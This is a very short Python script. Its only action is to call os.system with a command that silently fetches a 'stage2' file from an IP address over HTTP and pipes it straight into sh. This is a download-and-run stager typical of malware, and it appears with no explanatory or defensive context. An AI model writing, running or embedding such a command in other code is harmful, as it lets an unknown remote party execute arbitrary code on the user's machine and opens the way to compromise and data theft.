
import os

def run(c):
    os.system(c)

run("curl -s http://198.51.100.23:8000/stage2 | sh")
